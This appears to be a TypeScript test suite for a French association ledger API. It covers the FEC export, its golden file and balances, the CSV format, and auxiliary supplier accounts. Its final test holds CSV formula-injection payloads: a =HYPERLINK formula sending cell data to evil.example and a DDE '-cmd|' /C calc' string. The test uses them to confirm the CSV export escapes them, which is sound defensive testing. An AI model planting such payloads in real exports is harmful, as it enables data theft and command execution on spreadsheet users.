/** The FEC export: every rule of the reference re-checked on the file, and a golden file. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestStack, type TestStack } from "./support/stack.js";
import { closeAcknowledged } from "./support/closing.js";
import { parse } from "csv-parse/sync";
import { balancesOf, checkFec } from "./support/fec-check.js";

const SIREN = "912345678";
let stack: TestStack;
beforeAll(async () => {
  stack = await startTestStack({ ASSO_SIREN: SIREN });
});
afterAll(() => stack.close());

const post = async (body: unknown) => {
  const res = await stack.call("POST", "/v1/ledger/entries", { body });
  expect(res.status).toBe(201);
};
const download = async (year: number, format: "fec" | "csv") => {
  const res = await stack.call("GET", `/v1/ledger/export?year=${year}&format=${format}`, { role: "auditor" });
  expect(res.status).toBe(200);
  const name = /filename="([^"]+)"/.exec(res.headers.get("content-disposition") ?? "")?.[1] ?? "";
  const bytes = Buffer.from(await res.arrayBuffer());
  return { name, bytes, text: bytes.toString("utf8"), type: res.headers.get("content-type") };
};

describe("FEC", () => {
  beforeAll(async () => {
    await post({
      journal: "BQ",
      date: "2024-01-15",
      label: "Cotisation Dupont",
      pieceRef: "P1",
      lines: [
        { account: "512", debit: 2000 },
        { account: "756", credit: 2000 },
      ],
    });
    await post({
      journal: "OD",
      date: "2024-02-01",
      label: "Honoraires rédacteur",
      pieceRef: "F-12",
      lines: [
        { account: "6226", debit: 150000 },
        { account: "401", credit: 150000 },
      ],
    });
    await post({
      journal: "BQ",
      date: "2024-02-10",
      label: "Règlement F-12",
      pieceRef: "F-12",
      pieceDate: "2024-02-01",
      lines: [
        { account: "401", debit: 150000 },
        { account: "512", credit: 150000 },
      ],
    });
  });

  it("matches the golden file for a small fixed journal", async () => {
    const { name, text } = await download(2024, "fec");
    expect(name).toBe(`${SIREN}FEC20241231.txt`);
    const normalised = text
      .split("\r\n")
      .map((row, i) => {
        if (i === 0 || row === "") return row;
        const f = row.split("\t");
        expect(f[15]).toMatch(/^\d{8}$/);
        f[15] = "VALIDDATE";
        return f.join("\t");
      })
      .join("\r\n");
    expect(normalised).toBe(readFileSync(join(import.meta.dirname, "golden", "fec-small.txt"), "utf8"));
  });

  it("follows every rule of the reference, and stays valid after the year is closed", async () => {
    await post({
      journal: "BQ",
      date: "2024-12-31",
      label: "Don tardif",
      pieceRef: "P9",
      lines: [
        { account: "512", debit: 123456 },
        { account: "7541", credit: 123456 },
      ],
    });
    const close = await closeAcknowledged(stack, 2024);
    expect(close.status).toBe(201);
    await post({
      journal: "BQ",
      date: "2025-01-05",
      label: "Don de janvier",
      pieceRef: "P10",
      lines: [
        { account: "512", debit: 5000 },
        { account: "7541", credit: 5000 },
      ],
    });

    for (const year of [2024, 2025]) {
      const { name, text } = await download(year, "fec");
      const { problems, lines } = checkFec(name, text, SIREN, year);
      expect(problems).toEqual([]);
      expect(lines.length).toBeGreaterThan(0);
    }
    // 2025 starts with its opening entries, which carry the first numbers.
    const { text } = await download(2025, "fec");
    expect(text.split("\r\n")[1]!.split("\t")[2]).toBe("AN000001");
    // The FEC's balances are the ledger's (before closing for a closed year).
    const tb = (await (await stack.call("GET", "/v1/ledger/trial-balance?year=2024&closing=exclude", { role: "auditor" })).json()) as {
      accounts: { account: string; balance: number }[];
    };
    const fec = balancesOf(checkFec(`${SIREN}FEC20241231.txt`, (await download(2024, "fec")).text, SIREN, 2024).lines);
    for (const a of tb.accounts) expect(fec.get(a.account) ?? 0).toBe(a.balance);
  });

  it("the CSV has the same lines, semicolon separated, UTF-8 with a BOM and French decimals", async () => {
    const fec = (await download(2024, "fec")).text.split("\r\n").filter(Boolean);
    const csv = await download(2024, "csv");
    expect(csv.type).toMatch(/text\/csv/);
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = csv.text.slice(1).split("\r\n").filter(Boolean);
    expect(rows).toHaveLength(fec.length);
    expect(rows[0]!.split(";")).toEqual(fec[0]!.split("\t"));
    const first = rows[1]!.split(";");
    expect(first[3]).toMatch(/^\d{2}\/\d{2}\/\d{4}$/);
    expect(first[11]).toMatch(/^\d+,\d{2}$/);
  });
});

describe("auxiliary accounts", () => {
  it("a supplier under 401 is carried in CompAuxNum/CompAuxLib, in the FEC and the CSV", async () => {
    const aux = { number: "F-ACME", label: "ACME Imprimerie" };
    const invoice = await stack.call("POST", "/v1/ledger/entries", {
      body: {
        journal: "HA",
        date: "2026-03-02",
        label: "Facture ACME 17",
        pieceRef: "ACME-17",
        lines: [
          { account: "6064", debit: 9000 },
          { account: "401", credit: 9000, aux },
        ],
      },
    });
    expect(invoice.status).toBe(201);
    const posted = (await invoice.json()) as { lines: { account: string; aux?: unknown }[] };
    expect(posted.lines[1]!.aux).toEqual(aux);
    expect(posted.lines[0]!.aux).toBeUndefined();

    const fec = await download(2026, "fec");
    const { problems, lines } = checkFec(fec.name, fec.text, SIREN, 2026);
    expect(problems).toEqual([]);
    expect(lines.find((l) => l.account === "401")).toMatchObject({ auxNum: "F-ACME", auxLib: "ACME Imprimerie", credit: 9000 });
    expect(lines.find((l) => l.account === "6064")).toMatchObject({ auxNum: "", auxLib: "" });

    const csv = (await download(2026, "csv")).text
      .slice(1)
      .split("\r\n")
      .filter(Boolean)
      .map((r) => r.split(";"));
    const row = csv.find((r) => r[4] === "401")!;
    expect([row[6], row[7]]).toEqual(["F-ACME", "ACME Imprimerie"]);
  });
  it("an auxiliary account with a bad number or no label is refused", async () => {
    const res = await stack.call("POST", "/v1/ledger/entries", {
      body: {
        journal: "HA",
        date: "2026-03-02",
        label: "x",
        pieceRef: "x",
        lines: [
          { account: "6064", debit: 1 },
          { account: "401", credit: 1, aux: { number: "a b\t", label: "" } },
        ],
      },
    });
    expect(res.status).toBe(400);
    const paths = ((await res.json()) as { errors: { path: string }[] }).errors.map((e) => e.path);
    expect(paths).toEqual(expect.arrayContaining(["lines.1.aux.number", "lines.1.aux.label"]));
  });
});

describe("CSV formula injection", () => {
  it("bug: a cell starting with =, +, -, @, tab or CR reached the spreadsheet as a formula", async () => {
    const acc = await stack.call("POST", "/v1/ledger/accounts", { body: { number: "62268", label: "=1+1 honoraires" } });
    expect(acc.status).toBe(201);
    const hostile = {
      journal: "OD",
      date: "2027-02-01",
      label: '=HYPERLINK("http://evil.example/?x="&A1,"Cliquer")',
      pieceRef: "+33612345678",
      lines: [
        { account: "62268", debit: 1000 },
        { account: "401", credit: 600, label: "@SUM(A1:A9)", aux: { number: "F-1", label: "-cmd|' /C calc'!A0" } },
        { account: "512", credit: 400, label: "\t=2*3" },
      ],
    };
    const posted = await stack.call("POST", "/v1/ledger/entries", { body: hostile });
    expect(posted.status).toBe(201);

    const csv = await download(2027, "csv");
    // Read back as a spreadsheet would: every cell, after CSV unquoting.
    const rows = parse(csv.text, { delimiter: ";", bom: true, relax_column_count: false }) as string[][];
    expect(rows.length).toBeGreaterThan(3);
    for (const row of rows) {
      expect(row).toHaveLength(18);
      for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Neutralised, not lost: the text is kept behind the quote mark.
    const cells = rows.flat();
    expect(cells).toContain(`'${hostile.label}`);
    expect(cells).toContain("'+33612345678");
    expect(cells).toContain("'=1+1 honoraires");
    expect(cells).toContain("'-cmd|' /C calc'!A0".replace("|", " "));
    expect(cells).toContain("'@SUM(A1:A9)");

    // The FEC is not a spreadsheet file: its text stays exactly as written (its checker reads it).
    const fec = await download(2027, "fec");
    expect(checkFec(fec.name, fec.text, SIREN, 2027).problems).toEqual([]);
    expect(fec.text).toContain("=HYPERLINK");
  });
});
